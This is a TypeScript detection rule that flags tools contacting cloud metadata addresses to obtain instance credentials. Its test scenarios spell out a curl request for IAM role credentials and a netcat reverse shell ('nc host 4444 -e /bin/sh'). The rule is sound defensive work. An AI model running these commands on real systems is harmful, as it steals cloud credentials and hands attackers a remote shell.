import type { DetectionCase } from '../../model/detection-case.js';
import type { Level } from '../../model/finding.js';
import type { Process } from '../../model/process.js';
import { type Call, grouped } from '../calls.js';
import { commandedRows } from '../commanded.js';
import type { Draft } from '../draft.js';
import { type EarlyPairs, earlyPairs } from '../early-pairs.js';
import { ancestorsInside } from '../lineage.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { isTool } from '../tool.js';
import { command, connectionEvidence, destination, processEvidence, reference, span } from '../wording.js';

/**
 * Addresses that answer any process of a machine with its identity and its credentials: AWS, Azure, Google and others; AWS over IPv6; Alibaba;
 * the credentials of an ECS task and of an EKS pod. *Source:* the documentation of those clouds.
 */
const METADATA_ADDRESSES = new Set([
  '169.254.169.254',
  'fd00:ec2::254',
  '100.100.100.200',
  '169.254.170.2',
  '169.254.170.23',
  'fd00:ec2::23',
]);
/** Paths that give credentials and not only a region or a name. */
const CREDENTIAL_PATH =
  /security-credentials|\/identity\/oauth2\/token|service-accounts\/[^\s/]+\/(?:token|identity)|\/v2\/credentials|ram\/security/;
const CALLS_SHOWN = 5;

export const cloudMetadata = defineRule({
  id: 'cloud-metadata',
  title: 'Cloud metadata asked for by a tool',
  description:
    "A shell, a download tool or a program that nobody installed calls the address at which a cloud gives out a machine's identity and credentials. " +
    "Programs that use the cloud's own libraries call it from the start of their container; a tool that does so later has somebody behind it. A " +
    'region looked up by a start script is reported as low.',
  level: 'high',
  stage: 'consequence',
  attack: ['T1552.005'],
  needs: ['connections'],
  options: {},
  falsePositives: ['Start scripts and cron jobs that look up the region or the name of their machine.'],
  *run({ view, stories, calls }) {
    const commanded = commandedRows(stories);
    const early = earlyPairs(view);
    const asked = calls({ addresses: METADATA_ADDRESSES });
    for (const [processId, own] of grouped(asked, (call) => call.processId)) {
      const process = view.process(processId);
      if (process === undefined || !isTool(process)) continue;
      yield draft(view, process, own, levelOf(process, commanded, early));
    }
  },
  hits: [
    scenario(
      'curl asks for the credentials of the role, late',
      `
      container web
      0       node server.js
      1200      sh -c "curl …"
      1200.1      curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app
      1200.2        > tcp 169.254.169.254:80
    `,
    ),
    scenario(
      'a program given as text asks, below a commanded shell',
      `
      container web
      0       node server.js
      1200      nc host 4444 -e /bin/sh
      1200.1      > tcp 203.0.113.9:4444
      1200.2      => /bin/sh
      1210        python3 -c "…"
      1210.1        > tcp 169.254.169.254:80
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'a start script looks up the region',
      `
      container web
      0       bash /entrypoint.sh
      1         curl -s http://169.254.169.254/latest/meta-data/placement/region
      1.1         > tcp 169.254.169.254:80
      2         node server.js
    `,
    ),
    scenario(
      'a service renews its credentials through the library of the cloud',
      `
      container web
      0       /app/server
      1         > tcp 169.254.169.254:80
      3600      > tcp 169.254.169.254:80
    `,
    ),
  ],
});

function levelOf(process: Process, commanded: ReadonlySet<number>, early: EarlyPairs): Level {
  if (commanded.has(process.id)) return 'high';
  const isNews = process.late === 'late' && !early.has(process);
  if (!isNews) return 'low';
  return CREDENTIAL_PATH.test(process.arguments ?? '') ? 'high' : 'medium';
}

function draft(view: DetectionCase, process: Process, calls: readonly Call[], level: Level): Draft {
  const connections = calls.slice(0, CALLS_SHOWN).flatMap((call) => view.connection(call.connectionId) ?? []);
  const [starter] = ancestorsInside(view, process, 1);
  const below = starter === undefined ? '' : ` below ${command(starter)}`;
  return {
    level,
    title: `${command(process)} asked the cloud for metadata`,
    why: `${command(process)} (pid ${process.pid})${below} called ${[...new Set(connections.map(destination))].join(', ')}, where a cloud gives out a machine's identity and credentials.`,
    process,
    ...span(...calls.map((call) => call.atUs)),
    count: calls.length,
    connections,
    related: starter === undefined ? [] : [{ ...reference(starter), role: 'parent' }],
    evidence: [
      ...processEvidence(process),
      ...connections.flatMap((one) => connectionEvidence(one, `pid ${process.pid} connected to ${destination(one)}`)),
    ],
    members: [process.id],
  };
}
